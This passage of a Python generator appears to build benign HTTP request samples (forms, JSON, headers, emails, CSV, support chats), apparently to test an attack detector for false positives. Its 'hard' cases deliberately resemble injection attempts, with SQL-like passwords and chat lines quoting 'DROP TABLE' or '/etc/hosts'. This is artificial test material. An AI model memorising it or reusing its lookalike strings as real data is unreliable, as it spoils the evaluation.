                "seats": r.randint(1, 200),
                "billing_cycle": r.choice(["monthly", "annual"]),
                "coupon": None,
            }
        },
        lambda: {
            "ticket": {
                "subject": r.choice(["Refund request", "Wrong size delivered", "Change delivery address"]),
                "priority": r.choice(["low", "normal", "high"]),
                "order_id": n,
            }
        },
        lambda: {
            "appointment": {
                "date": "2026-12-%02d" % r.randint(8, 28),
                "slot": "%02d:30" % r.randint(8, 17),
                "service": r.choice(["haircut", "consultation", "repair"]),
                "notes": "",
            }
        },
    ]
    hards = [
        lambda: {
            "settings": {
                "notifications": {
                    "email": {
                        "digest": {
                            "schedule": {
                                "weekly": {
                                    "day": "mon",
                                    "time": {
                                        "hour": 9,
                                        "minute": 0,
                                        "tz": {
                                            "name": "Europe/Dublin",
                                            "dst": {"auto": True, "offset": {"minutes": 0}},
                                        },
                                    },
                                }
                            }
                        }
                    }
                }
            }
        },
        lambda: {
            "where": {"price": {"$lte": r.choice([50, 100, 250])}, "category": {"$eq": r.choice(SLUGS)}},
            "limit": 20,
        },
        lambda: {
            "@context": "https://schema.org",
            "@type": "Product",
            "name": r.choice(PRODUCTS),
            "offers": {"@type": "Offer", "price": "%d.99" % r.randint(5, 300), "priceCurrency": "EUR"},
        },
        lambda: {
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "type": "object",
            "properties": {"sku": {"type": "string", "pattern": "^[A-Z]-[0-9]{3}$"}},
        },
        lambda: {
            "query": {
                "bool": {
                    "must": [{"match": {"title": r.choice(PRODUCTS).lower()}}],
                    "filter": [{"range": {"price": {"lte": r.randint(50, 500)}}}],
                }
            }
        },
        lambda: {
            "customer": {
                "name": "%s %s" % (r.choice(FIRST), r.choice(["O'Brien", "O'Neill", "D'Angelo"])),
                "company": r.choice(COMPANIES),
                "notes": "Gate code #%d; ring twice" % r.randint(1000, 9999),
            }
        },
        lambda: {
            "rule": {
                "if": {
                    "and": [
                        {"field": "country", "op": "in", "value": ["DE", "AT"]},
                        {"field": "total", "op": ">=", "value": 100},
                    ]
                },
                "then": {"shipping": "free"},
            }
        },
        lambda: {
            "patch": [
                {"op": "replace", "path": "/address/city", "value": city},
                {"op": "remove", "path": "/tags/%d" % r.randint(0, 3)},
            ]
        },
        lambda: {
            "odata.metadata": "https://api.example.com/$metadata#Orders",
            "value": [{"OrderID": n, "Freight": round(r.uniform(1, 90), 2)}],
        },
        lambda: {
            "headers": {"x-amz-meta-owner": "%s" % f, "cache-control": "max-age=%d" % r.choice([60, 300, 3600])},
            "key": "uploads/2026/12/%s.png" % rand_hex(r, 12),
        },
    ]
    return r.choice(hards if hard else normal)()


def gen_api_json(r, b, hard, i):
    pl = pick_pl(r, [("json", 62), ("json_key", 10), ("query", 14), ("query_key", 14)])
    n = r.randint(1, 9999)
    if pl == "json":
        obj = api_obj(r, hard)
        if len(obj) == 1 and isinstance(next(iter(obj.values())), (dict, list)):
            key, val = next(iter(obj.items()))
            p = compact(val)
            return b(
                pl,
                p,
                hard,
                raw=True,
                param=key,
                path=r.choice(
                    ["/api/v1/orders", "/api/v2/resources", "/api/items", "/api/customers/%d" % n, "/api/events"]
                ),
                deep=False,
            )
        p = compact(obj)
        return b(
            pl,
            p,
            hard,
            raw=True,
            path=r.choice(["/api/v1/query", "/api/rules", "/api/products/search", "/api/settings"]),
            doc={"data": PH, "meta": {"requestId": rand_uuid(r)}},
        )
    if pl == "json_key":
        keys_n = [
            "shipping_address",
            "line_items",
            "customerId",
            "created_at",
            "isDefault",
            "postal_code",
            "x-request-source",
            "utm_campaign",
        ]
        keys_h = [
            "@type",
            "$schema",
            "user.name",
            "__typename",
            "odata.type",
            "$ref",
            "@context",
            "field[0]",
            "select",
            "order by",
            "a/b/c",
        ]
        k = r.choice(keys_h if hard else keys_n)
        kv = r.choice(
            [
                "Order",
                "https://json-schema.org/draft/2020-12/schema",
                "jdoe",
                "Product",
                "#/definitions/Address",
                "value",
                True,
                12,
            ]
        )
        return b(
            pl,
            k,
            hard,
            keyval=kv,
            path=r.choice(["/api/v1/orders", "/api/items", "/api/schemas"]),
            param=r.choice(["data", "attributes", "item"]),
            deep=(r.random() < 0.2),
        ) or b(pl, k + "_%d" % n, hard, keyval=kv, path="/api/items", param="data")
    if pl == "query":
        vn = [
            ("fields[articles]", "title,body,author"),
            ("include", "author,comments.author"),
            ("sort", "-created_at,name"),
            ("filter", "status eq 'open' and total gt %d" % r.randint(10, 500)),
            ("$select", "id,name,email"),
            ("expand", "items($select=sku,qty)"),
        ]
        vh = [
            ("filter", "lastName eq 'O''Brien'"),
            ("where", '{"status":"active","total":{"gt":%d}}' % r.randint(10, 99)),
            ("q", "created>=2026-11-01;status==open,status==pending"),
            ("fields", "id,name,description,*"),
            ("$filter", "startswith(Name,'Mc') and Price le %d" % r.randint(5, 99)),
            ("jq", ".items[] | select(.qty > %d)" % r.randint(1, 9)),
        ]
        k, v = r.choice(vh if hard else vn)
        return b(
            pl, v, hard, param=k, path=r.choice(["/api/v1/articles", "/odata/Customers", "/api/search", "/api/orders"])
        ) or b(pl, v + " ", hard, param=k, path="/api/search")
    kn = ["filter[status]", "page[size]", "page[number]", "fields[articles]", "sort", "include", "filter[author.name]"]
    kh = [
        "filters[category][slug][$eq]",
        "filters[price][$lte]",
        "populate[0]",
        "sort[0]",
        "where[name][contains]",
        "$top",
        "$orderby",
        "filter[created_at][gte]",
    ]
    k = r.choice(kh if hard else kn)
    kv = r.choice(
        [
            "open",
            "25",
            "2",
            "title,body",
            "-created_at",
            "author",
            "shoes",
            "100",
            "createdAt:desc",
            "10",
            "Name desc",
            "2026-11-01",
        ]
    )
    return b(
        pl, k, hard, keyval=kv, path=r.choice(["/api/articles", "/api/products", "/odata/Orders", "/api/v1/issues"])
    ) or b(pl, k.replace("[", "[%d][" % n, 1) if "[" in k else k + str(n), hard, keyval=kv, path="/api/products")


# -------------------------------------------------------------- forms ----
def gen_forms(r, b, hard, i):
    f, l = name(r)
    city, zipc, cc = r.choice(CITIES)
    n = r.randint(1, 9999)
    if hard:
        field, val = r.choice(
            [
                (
                    "password",
                    r.choice(
                        [
                            "P@ss'w0rd;--",
                            "Tr0ub4dor&3",
                            "<3kittens!",
                            'hunter2"--x',
                            "Sommer#2026/%d" % n,
                            "c0rrect-h0rse;b@ttery",
                            "O'Hara!1985",
                            "1=1isTrue!",
                            "pa$$w0rd||%d" % n,
                            "!Q@W#E$R%T^Y",
                            "#include<pw>%d" % n,
                        ]
                    )
                    + ("" if r.random() < 0.5 else str(n)),
                ),
                (
                    "last_name",
                    r.choice(
                        [
                            "O'Brien",
                            "D'Angelo",
                            "O'Neill",
                            "Ní Bhriain",
                            "St. John-Smythe",
                            "McDonald-O'Hare",
                            "d'Artagnan",
                        ]
                    ),
                ),
                (
                    "address_line1",
                    "%d %s, Apt #%d"
                    % (
                        r.randint(1, 300),
                        r.choice(["O'Connell St.", "Queen's Road", "St. Mary's Lane", "Rue d'Italie"]),
                        r.randint(1, 40),
                    ),
                ),
                ("company", r.choice(COMPANIES) + r.choice(["", ", Ltd.", " (EU)", " & Co."])),
                (
                    "delivery_notes",
                    r.choice(
                        [
                            "Leave at back door; dog is friendly",
                            "Call 10 min before -- buzzer broken",
                            "Side entrance <- next to bakery",
                            "Don't ring after 8pm; baby sleeping",
                            "Code: #4521* then press 'enter'",
                        ]
                    )
                    + " (%d)" % n,
                ),
                ("phone", "+1 (555) 0%02d-%04d ext. %d" % (r.randint(10, 99), r.randint(0, 9999), r.randint(1, 99))),
                (
                    "bio",
                    "I'm a %s -- I like SQL, shell scripts & <b>bold</b> ideas. %d"
                    % (r.choice(["data analyst", "developer", "teacher"]), n),
                ),
                (
                    "username",
                    r.choice(["admin_", "root.beer", "select_", "drop.bear", "null_pointer", "union-jack"]) + str(n),
                ),
            ]
        )
    else:
        field, val = r.choice(
            [
                ("first_name", f),
                ("last_name", r.choice(ASCII_LAST)),
                ("email", "%s.%s%d@example.com" % (f.lower(), r.choice(ASCII_LAST).lower(), n)),
                ("address_line1", "%d %s" % (r.randint(1, 300), r.choice(STREETS))),
                ("city", city),
                ("postal_code", zipc),
                ("phone", "+44 20 7946 %04d" % r.randint(0, 9999)),
                ("company", r.choice(["Northwind Traders", "Acme Logistics", "Lumen Analytics"]) + " %d" % n),
                (
                    "message",
                    "Hello, I would like to know if the %s is back in stock. Thanks, %s" % (r.choice(PRODUCTS), f),
                ),
                ("password", rand_alnum(r, 14)),
                ("coupon", "WINTER%d" % r.randint(10, 50)),
                ("card_name", "%s %s" % (f, r.choice(ASCII_LAST))),
                ("date_of_birth", "19%02d-%02d-%02d" % (r.randint(50, 99), r.randint(1, 12), r.randint(1, 28))),
            ]
        )
    pl = pick_pl(r, [("form", 68), ("multipart", 10), ("json", 16), ("query", 6)])
    others = [
        ("first_name", f),
        ("email", "%s%d@example.org" % (r.choice(ASCII_FIRST).lower(), r.randint(1, 99))),
        ("country", cc),
    ]
    others = [(k, v) for k, v in others if k != field]
    path = r.choice(
        ["/signup", "/checkout/address", "/account/profile", "/contact", "/newsletter", "/checkout/payment"]
    )
    if pl == "form":
        return b(
            pl,
            val,
            hard,
            param=field,
            path=path,
            form_extra=others + [("csrf_token", rand_alnum(r, 32))],
            no_filler_form=True,
        )
    if pl == "multipart":
        return b(pl, val, hard, param=field, path=path, mp="field", mp_extra=[(k, v, None, None) for k, v in others])
    if pl == "json":
        return b(pl, val, hard, path="/api" + path, doc=dict(others + [(field, PH)]))
    return b(pl, val, hard, param=field, path=path, extra_q=others[:1], no_filler_q=True)


# ------------------------------------------------------------ headers ----
def gen_headers(r, b, hard, i):
    n = r.randint(1, 10**6)
    if hard:
        name_, val = r.choice(
            [
                ("Sec-CH-UA", '"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"'),
                ("Baggage", "userId=%s,serverNode=DF%%20%d,isProduction=false" % (rand_alnum(r, 8), r.randint(1, 40))),
                (
                    "Forwarded",
                    'for=192.0.2.%d;proto=https;by=203.0.113.43, for="[2001:db8:cafe::%x]"'
                    % (r.randint(1, 250), r.randint(1, 4095)),
                ),
                (
                    "X-Forwarded-For",
                    "10.0.%d.%d, 127.0.0.1, 172.16.0.%d" % (r.randint(0, 255), r.randint(1, 254), r.randint(1, 254)),
                ),
                (
                    "User-Agent",
                    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) v%d" % r.randint(1, 9),
                ),
                ("If-None-Match", 'W/"%s-%s", "%s"' % (rand_hex(r, 8), rand_hex(r, 4), rand_hex(r, 16))),
                ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.%d" % r.randint(1, 9)),
                ("Prefer", "return=representation; handling=lenient; odata.maxpagesize=%d" % r.choice([50, 100, 500])),
                (
                    "X-Amzn-Trace-Id",
                    "Root=1-%s-%s;Parent=%s;Sampled=1" % (rand_hex(r, 8), rand_hex(r, 24), rand_hex(r, 16)),
                ),
                ("X-Forwarded-Prefix", "/app/v%d" % r.randint(1, 9)),
                ("Accept-Encoding", "gzip, deflate, br, zstd;q=0.%d" % r.randint(1, 9)),
                ("If-Range", '"%s"' % rand_hex(r, 20)),
                ("Cache-Control", "no-cache, no-store, must-revalidate, max-age=0, s-maxage=%d" % r.randint(0, 600)),
                ("X-Original-Host", "shop.example.com:%d" % r.choice([443, 8443])),
                ("Sec-Fetch-Dest", "empty"),
                ("Range", "bytes=0-%d, %d-" % (r.randint(100, 999), r.randint(5000, 9000))),
                ("Tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7,vendor%d=opaque-value" % r.randint(1, 9)),
                ("X-Client-Info", "supabase-js/2.%d.0; platform=web; (Macintosh)" % r.randint(30, 46)),
            ]
        )
        cookie_val = r.choice(
            [
                ("consent", '{"necessary":true,"analytics":false,"ts":%d}' % (1733500000 + n)),
                (
                    "OptanonConsent",
                    "isGpcEnabled=0&datestamp=Sat+Dec+07+2026+10%%3A%02d%%3A00+GMT%%2B0100&version=202411.1.0&groups=C0001%%3A1%%2CC0002%%3A0"
                    % r.randint(0, 59),
                ),
                ("cart", '[{"sku":"A-%d","qty":%d}]' % (r.randint(100, 999), r.randint(1, 4))),
                ("prefs", "theme=dark&lang=de-DE&tz=Europe/Berlin&v=%d" % r.randint(1, 99)),
                ("ajs_user_id", '"%d"' % n),
                ("recent", "O'Brien;Smith & Co;%d" % n),
            ]
        )
    else:
        name_, val = r.choice(
            [
                ("traceparent", "00-%s-%s-01" % (rand_hex(r, 32), rand_hex(r, 16))),
                ("X-Request-ID", rand_uuid(r)),
                ("X-Correlation-ID", rand_uuid(r)),
                (
                    "If-Modified-Since",
                    "%s, %02d Nov 2026 %02d:%02d:00 GMT"
                    % (
                        r.choice(["Mon", "Tue", "Wed", "Thu", "Fri"]),
                        r.randint(1, 28),
                        r.randint(0, 23),
                        r.randint(0, 59),
                    ),
                ),
                (
                    "Accept-Language",
                    r.choice(
                        [
                            "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
                            "pt-BR,pt;q=0.9",
                            "ja-JP,ja;q=0.9,en-US;q=0.6",
                            "nl-NL,nl;q=0.%d" % r.randint(5, 9),
                        ]
                    ),
                ),
                ("Sec-CH-UA-Platform", '"%s"' % r.choice(["Windows", "macOS", "Android", "Linux"])),
                ("Idempotency-Key", rand_uuid(r)),
                ("X-B3-TraceId", rand_hex(r, 32)),
                ("X-Amz-Date", "20261207T%02d%02d00Z" % (r.randint(0, 23), r.randint(0, 59))),
                ("X-GitHub-Delivery", rand_uuid(r)),
                ("DNT", "1"),
                ("Save-Data", "on"),
                ("Priority", "u=%d, i" % r.randint(0, 4)),
                ("X-Api-Key", rand_alnum(r, 32)),
                ("X-Device-ID", rand_uuid(r).upper()),
                ("X-App-Version", "5.%d.%d (build %d)" % (r.randint(0, 20), r.randint(0, 9), r.randint(1000, 9999))),
            ]
        )
        cookie_val = r.choice(
            [
                ("_ga", "GA1.2.%d.%d" % (r.randint(10**8, 10**9), 1733400000 + r.randint(0, 99999))),
                ("sid", rand_hex(r, 32)),
                ("theme", r.choice(["dark", "light", "system"]) + str(r.randint(1, 99))),
                ("currency", r.choice(["EUR", "USD", "GBP"]) + "-%d" % r.randint(1, 99)),
                ("ab_test", "checkout_v%d" % r.randint(1, 9)),
            ]
        )
    if r.random() < 0.3:
        ck, cv = cookie_val
        return b("cookie", cv, hard, cookie=ck, path=r.choice(["/", "/cart", "/account", "/api/me"]))
    if not b(
        "header",
        val,
        hard,
        hdr=name_,
        path=r.choice(["/", "/api/v1/orders", "/api/me", "/products", "/static/app.css"]),
    ):
        return False
    return True


# -------------------------------------------------------------- email ----
def gen_email(r, b, hard, i):
    f, l = name(r, ascii_only=True)
    n = r.randint(1, 999)
    dom = r.choice(
        [
            "example.com",
            "example.org",
            "mail.example.net",
            "corp.example.co.uk",
            "example.photography",
            "students.example.edu",
        ]
    )
    if hard:
        v = r.choice(
            [
                "o'connor.%s@example.ie" % f.lower(),
                '"%s..%s"@%s' % (f.lower(), l.lower(), dom),
                "%s+newsletter-%d@%s" % (f.lower(), n, dom),
                "Hi team,\n\nPlease find the signed contract attached.\n\n-----Original Message-----\nFrom: %s %s <%s@%s>\nSent: Friday, December 5, 2026 4:12 PM\nTo: sales@example.com\nSubject: RE: Contract #%d\n\nThanks!"
                % (f, l, f.lower(), dom, n),
                "From: %s <%s@%s>\nTo: support@example.com\nSubject: Order %d\n\nWhere is my parcel?"
                % (f, f.lower(), dom, n),
                "%s.%s@xn--mller-kva.example" % (f.lower(), l.lower()),
                "José Martínez <jose.martinez%d@correo.example.es>" % n,
                "%s %s <%s@%s>, Ops Team <ops@%s>; billing@%s" % (f, l, f.lower(), dom, dom, dom),
                "%s@[192.0.2.%d]" % (f.lower(), r.randint(1, 250)),
                "=?UTF-8?B?%s?= <%s@%s>" % (b64("Zoë %s" % l), f.lower(), dom),
                "noreply+bounce-%d=customer.example.org@%s" % (n, dom),
                'Re: [Ticket #%d] Can\'t reset password -- "invalid token"' % n,
            ]
        )
    else:
        v = r.choice(
            [
                "%s.%s@%s" % (f.lower(), l.lower(), dom),
                "%s%d@%s" % (f.lower(), n, dom),
                "%s_%s@%s" % (f[0].lower(), l.lower(), dom),
                "Thanks for your order, %s! We'll email you when it ships. (ref %d)" % (f, n),
                "Kind regards,\n%s %s\nAccount Manager, %s\n+49 30 1234%03d" % (f, l, r.choice(COMPANIES), n),
                "Weekly digest for %s: %d new comments" % (f, n),
            ]
        )
    pl = pick_pl(r, [("form", 35), ("json", 30), ("query", 12), ("multipart", 10), ("xml", 8), ("header", 5)])
    if pl == "header" and ("\n" in v or not all(32 <= ord(c) < 127 for c in v)):
        pl = "json"
    if pl == "query" and "\n" in v:
        pl = "form"
    field = "email" if "\n" not in v and len(v) < 80 else "message"
    if pl == "form":
        return b(
            pl, v, hard, param=field, path=r.choice(["/newsletter/subscribe", "/contact", "/account/email", "/invite"])
        )
    if pl == "json":
        return b(
            pl, v, hard, param=field, path=r.choice(["/api/v1/contacts", "/api/users/invite", "/api/support/tickets"])
        )
    if pl == "query":
        return b(pl, v, hard, param=field, path=r.choice(["/api/users/lookup", "/unsubscribe", "/verify"]))
    if pl == "multipart":
        if "\n" in v:
            return b(
                pl,
                v,
                hard,
                mp="file",
                fname="message-%d.eml" % n,
                fctype="message/rfc822",
                param="attachment",
                path="/api/support/upload",
            )
        return b(
            pl,
            v,
            hard,
            mp="field",
            param="email",
            path="/careers/apply",
            mp_extra=[("cv", "%PDF-1.4\n", "cv.pdf", "application/pdf")],
        )
    if pl == "xml":
        return b(
            pl,
            v,
            hard,
            param=field if field == "email" else "body",
            path="/api/crm/contacts",
            xml_style=r.choice([0, 1, 4]),
        )
    return b(pl, v, hard, hdr="From", path="/robots.txt")


# --------------------------------------------------------------- i18n ----
I18N_NORMAL = [
    "Größe: 42 – Farbe: Blau",
    "مرحبا بكم في متجرنا",
    "שלום, ההזמנה שלך נשלחה",
    "東京都渋谷区神南1-2-3",
    "北京市朝阳区建国路88号",
    "서울특별시 강남구 테헤란로 152",
    "สวัสดีครับ ขอบคุณที่สั่งซื้อ",
    "Καλημέρα, η παραγγελία σας είναι έτοιμη",
    "Привет, как дела?",
    "नमस्ते, आपका ऑर्डर भेज दिया गया है",
    "Great service 👍🎉",
    "José Martínez-Núñez",
    "Zoë Ångström",
    "Đặng Thị Hồng",
    "Łukasz Żółć",
    "Ólafur Þórsson",
    "Nguyễn Văn Anh",
    "Café «Le Petit» — 5 €",
    "Straße des 17. Juni 135",
    "Crème brûlée x2",
    "Ünlü Sokak No:7, İstanbul",
    "Vielen Dank für Ihre Bestellung!",
    "¿Dónde está mi pedido?",
    "Świętokrzyska 18, Warszawa",
    "Tiếng Việt có dấu",
    "日本語のテキストです",
    "Ελευθερίου Βενιζέλου 12, Αθήνα",
    "Καλά Χριστούγεννα 🎄",
    "Ōsaka-shi, Kita-ku",
    "Ærøskøbing",
]
I18N_HARD = [
    "ＡＢＣ株式会社（東京）！",
    "ｶﾀｶﾅ ﾃｽﾄ",
    "\u200fשלום\u200f (order #%d)",
    "e\u0301cole de musique",
    "می\u200cخواهم",
    "👨‍👩‍👧‍👦 family pack",
    "🇩🇪🇫🇷🇯🇵 shipping",
    "مرحبا 'Ahmed' — طلب رقم %d",
    "＜お知らせ＞年末年始の営業について",
    "数量：１２個／単価：３００円",
    "O\u2019Brien\u2019s Café",
    "Ｓｅｌｅｃｔ ｓｉｚｅ：Ｌ",
    "「SELECT」ボタンを押してください",
    "עברית ו-English ביחד %d",
    "Tel: ٠١٢٣٤٥٦٧٨٩",
    "Ꭰ Cherokee Ꮳ syllabary",
    "𝐁𝐨𝐥𝐝 headline",
    "नमस्ते‍ (ZWJ)",
    "Ｆｕｌｌ－ｗｉｄｔｈ　ｓｐａｃｅ",
    "\u202aLTR embed\u202c test",
    "ǅemal Ǆoković",
    "İstanbul vs. istanbul vs. ıstanbul",
]


def gen_i18n(r, b, hard, i):
    base = r.choice(I18N_HARD if hard else I18N_NORMAL)
    v = base % r.randint(10, 9999) if "%d" in base else base
    if v in b.seen:
        v = v + " " + r.choice(["✓", "—", "#%d" % r.randint(1, 999), "(%d)" % r.randint(1, 99), "!", "…"])
    pl = pick_pl(
        r, [("json", 40), ("form", 18), ("query", 15), ("path", 8), ("multipart", 8), ("xml", 6), ("cookie", 5)]
    )
    if pl == "json":
        return b(
            pl,
            v,
            hard,
            param=r.choice(["name", "title", "message", "address", "display_name"]),
            path=r.choice(["/api/v1/profile", "/api/reviews", "/api/orders/notes"]),
            ascii_only=r.random() < 0.25,
        )
    if pl == "form":
        return b(
            pl,
            v,
            hard,
            param=r.choice(["name", "comment", "street"]),
            path=r.choice(["/checkout/address", "/reviews/new", "/profile"]),
        )
    if pl == "query":
        return b(
            pl,
            v,
            hard,
            param=r.choice(["q", "city", "name"]),
            path=r.choice(["/search", "/api/geo/lookup", "/api/users"]),
        )
    if pl == "path":
        return b(pl, v, hard, path_tpl=r.choice(["/wiki/{}", "/tags/{}", "/api/v1/cities/{}"]))
    if pl == "multipart":
        fn = v.replace("/", "-").replace('"', "'") + r.choice([".pdf", ".jpg", ".docx", ".txt"])
        return b(
            pl,
            fn,
            hard,
            mp="filename",
            fcontent="data\n",
            fctype="application/octet-stream",
            param="file",
            path="/api/files",
        )
    if pl == "xml":
        return b(pl, v, hard, param="name", path="/api/crm/contacts")
    return b(pl, v, hard, cookie="display_name", path="/")


# -------------------------------------------------------- spreadsheet ----
def csv_text(r, hard, sep=","):
    heads = [
        ["sku", "name", "qty", "unit_price", "total"],
        ["date", "account", "description", "debit", "credit"],
        ["employee_id", "name", "department", "hours", "rate"],
        ["region", "month", "revenue", "cost", "margin"],
    ]
    h = r.choice(heads)
    rows = [sep.join(h)]
    for j in range(r.randint(3, 9)):
        if h[0] == "sku":
            q = r.randint(1, 40)
            p = r.randint(100, 9999) / 100
            nm = r.choice(PRODUCTS)
            if sep == "," and r.random() < 0.3:
                nm = '"%s, large"' % nm
            rows.append(sep.join(["A-%d" % r.randint(100, 999), nm, str(q), "%.2f" % p, "%.2f" % (q * p)]))
        elif h[0] == "date":
            d = r.randint(100, 999999) / 100
            rows.append(
                sep.join(
                    [
                        "2026-11-%02d" % r.randint(1, 30),
                        str(r.choice([4000, 4100, 6200, 7300])),
                        r.choice(["Office supplies", "Travel - Lyon", "Software licence", "Client lunch"]),
                        "%.2f" % d if j % 2 else "",
                        "" if j % 2 else "%.2f" % d,
                    ]
                )
            )
        elif h[0] == "employee_id":
            f, l = name(r, ascii_only=True)
            rows.append(
                sep.join(
                    [
                        "E%04d" % r.randint(1, 9999),
                        "%s %s" % (f, l),
                        r.choice(["Sales", "Ops", "Finance", "R&D"]),
                        str(r.randint(20, 45)),
                        "%.2f" % (r.randint(1500, 6000) / 100),
                    ]
                )
            )
        else:
            rv = r.randint(10000, 99999)
            c = r.randint(5000, rv)
            rows.append(
                sep.join(
                    [
                        r.choice(["EMEA", "APAC", "NA", "LATAM"]),
                        "2026-%02d" % r.randint(1, 12),
                        str(rv),
                        str(c),
                        "%.1f%%" % (100 * (rv - c) / rv),
                    ]
                )
            )
    if hard:
        extra = r.choice(
            [
                sep.join(["", "", "", "Total", "=SUM(E2:E%d)" % len(rows)]),
                sep.join(["notes", "Tel. +44 20 7946 %04d" % r.randint(0, 9999), "", "", ""]),
                sep.join(["adj", "-15.00 credit note", "", "", ""]),
                sep.join(["memo", '"@home office, see Q3"', "", "", ""]),
            ]
        )
        rows.append(extra)
    return "\n".join(rows) + "\n"


def gen_spreadsheet(r, b, hard, i):
    pl = pick_pl(r, [("multipart", 45), ("json", 25), ("form", 15), ("xml", 15)])
    if pl == "multipart":
        t = csv_text(r, hard)
        return b(
            pl,
            t,
            hard,
            mp="file",
            fname=r.choice(["import.csv", "november.csv", "payroll_2026-11.csv", "stock.csv", "export (3).csv"]),
            fctype="text/csv",
            param="file",
            path=r.choice(["/api/imports/csv", "/inventory/upload", "/finance/ledger/import"]),
        )
    if pl == "json":
        if hard:
            v = r.choice(
                [
                    "Total in cell E12 is =SUM(E2:E11), please double-check.",
                    "Price lookup uses =VLOOKUP(A2,Prices!A:B,2,FALSE)",
                    "=AVERAGE(C2:C%d) for the monthly average" % r.randint(5, 40),
                    "Margin formula: =(C2-D2)/C2",
                    "Use =TODAY() for the date column",
                    "Leading + on phone numbers: +353 1 %03d %04d" % (r.randint(100, 999), r.randint(0, 9999)),
                    '=IF(B2>0;"ok";"check") (German Excel uses ;)',
                ]
            )
            v = v + " (row %d)" % r.randint(2, 400)
            return b(pl, v, hard, path="/api/sheets/%d/comments" % r.randint(1, 999), param="note")
        rows = [[r.choice(PRODUCTS), r.randint(1, 40), round(r.uniform(1, 99), 2)] for _ in range(r.randint(2, 6))]
        return b(
            pl,
            compact(rows),
            hard,
            raw=True,
            param="rows",
            path="/api/sheets/%d/append" % r.randint(1, 999),
            doc={"sheet": "Orders", "rows": PH},
        )
    if pl == "form":
        t = csv_text(r, hard, sep="\t")
        return b(
            pl,
            t,
            hard,
            param="pasted",
            path="/tools/table-import",
            form_extra=[("delimiter", "tab")],
            no_filler_form=True,
        )
    t = csv_text(r, hard)
    return b(pl, t, hard, param="csv", path="/api/reports/upload", xml_style=0)


# --------------------------------------------------------------- chat ----
CHAT_NORMAL = [
    "Hi, my order #{n} hasn't arrived yet. Tracking says it's been in Leipzig since Monday.",
    "Can I change the delivery address for order {n}? I moved last week.",
    "Thanks {f}, that fixed it!",
    "Is the {p} available in green? The website only shows blue.",
    "Hello, I was charged twice for invoice {n}, can you check?",
    "What time does the Dublin store close on Saturday?",
    "I'd like to cancel my subscription at the end of this month please.",
    "Great, see you at the 3pm call tomorrow.",
    "The app keeps logging me out on Android 14 after about 5 minutes.",
    "Could you resend the receipt to my work email? Thanks a lot!",
    "Do you ship to Norway? The checkout doesn't list it.",
    "Our team needs 5 more seats, how do I add them?",
    "The coupon WINTER{m} says expired but the email said valid until Sunday.",
    "Just wanted to say the {p} is fantastic, thanks!",
]
CHAT_HARD = [
    "Our nightly job ran `DROP TABLE staging_orders` before the import finished - can you restore it from last night's backup?",
    "Getting 'You have an error in your SQL syntax' when the customer name is O'Hara. Is the API escaping apostrophes?",
    "Is the <script> tag allowed in the custom HTML block? The widget docs say to paste it in the header.",
    "The export path shows ../reports/2026 instead of the absolute path, is that a bug?",
    "curl -X DELETE https://api.example.com/v1/webhooks/{n} returns 403 even with an admin token",
    "Can you whitelist 10.0.0.0/8 for the webhook? Our egress goes through the NAT.",
    "The email subject literally shows ${{first_name}} instead of the name, looks like the template var isn't filled.",
    "We got a pentest report mentioning XSS on the search page (ticket {n}) - is that fixed in 4.2?",
    "My password has a semicolon and an apostrophe and the login form rejects it, is that expected?",
    "The cron `0 3 * * *` didn't fire last night, anything in your logs?",
    "Does the API support `SELECT ... FOR UPDATE` style locking or do we need optimistic concurrency?",
    "Why does /etc/hosts on the build agent point api.example.com to 127.0.0.1? Someone left a test override.",
    "In the CSV import, cells starting with = get prefixed with a quote. Can we turn that off for our internal sheets?",
    "Log4j is mentioned in your security page - are you affected by the 2021 issue? Our compliance team is asking.",
    "When I paste <b>bold</b> into the comment box it shows the tags instead of formatting.",
    "Our WAF at work blocks requests with 'union' in them and our product is literally called Union Coffee, help!",
    "Query works in psql: `UPDATE users SET plan='pro' WHERE id={n};` but the admin UI still shows free.",
    "The redirect after login goes to http://localhost:3000 in production, I think the env var is wrong.",
    "eval() is blocked by our CSP now, what's the recommended way to load the chart config?",
    "Windows path C:\\Program Files\\Acme\\agent.exe isn't found after the update, did the install dir change?",
]


def gen_chat(r, b, hard, i):
    t = r.choice(CHAT_HARD if hard else CHAT_NORMAL)
    f, l = name(r)
    v = t.format(n=r.randint(1000, 99999), f=f, p=r.choice(PRODUCTS), m=r.randint(10, 40))
    if v in b.seen or r.random() < 0.35:
        v = (
            r.choice(["Hi! ", "Hello, ", "Hey team - ", "Quick question: ", "Morning! ", "Sorry to bother you, ", ""])
            + v
            + r.choice(["", " Thanks!", " Cheers, %s" % f, " (urgent)", " :)", " Regards, %s %s" % (f, l)])
        )
    pl = pick_pl(r, [("json", 60), ("form", 15), ("multipart", 10), ("xml", 10), ("query", 5)])
    if pl == "json":
        return b(
            pl,
            v,
            hard,
            path=r.choice(
                [
                    "/api/v1/conversations/%d/messages" % r.randint(1, 99999),
                    "/api/chat/send",
                    "/api/support/tickets/%d/replies" % r.randint(1, 9999),
                ]
            ),
            doc={"message": {"text": PH, "author": {"name": "%s %s" % (f, l)}, "client_msg_id": rand_uuid(r)}}
            if r.random() < 0.5
            else None,
            param="text",
        )
    if pl == "form":
        return b(
            pl, v, hard, param="message", path="/support/chat", form_extra=[("conversation", str(r.randint(1, 99999)))]
        )
    if pl == "multipart":
        return b(
            pl,
            v,
            hard,
            mp="field",
            param="message",
            path="/api/support/tickets",
            mp_extra=[("screenshot", "\x89PNG\r\n\x1a\n....", "screenshot.png", "image/png")],
        )
    if pl == "xml":
        return b(
            pl,
            v,
            hard,
            path="/xmpp/send",
            xml_tpl='<message to="support@chat.example.com" type="chat" id="%s"><body>%s</body></message>'
            % (rand_hex(r, 8), PH),
        )
    return b(pl, v, hard, param="text", path="/api/chat/quick-reply")


BENIGN_KINDS = [
    ("benign_richtext", gen_richtext, 74),
    ("benign_markdown", gen_markdown, 74),
    ("benign_code", gen_code, 74),
    ("benign_search", gen_search, 74),
    ("benign_graphql", gen_graphql, 74),
    ("benign_files", gen_files, 73),
    ("benign_urls", gen_urls, 73),
    ("benign_base64", gen_base64, 73),
    ("benign_api_json", gen_api_json, 73),
    ("benign_forms", gen_forms, 73),
    ("benign_headers", gen_headers, 73),
    ("benign_email", gen_email, 73),
    ("benign_i18n", gen_i18n, 73),
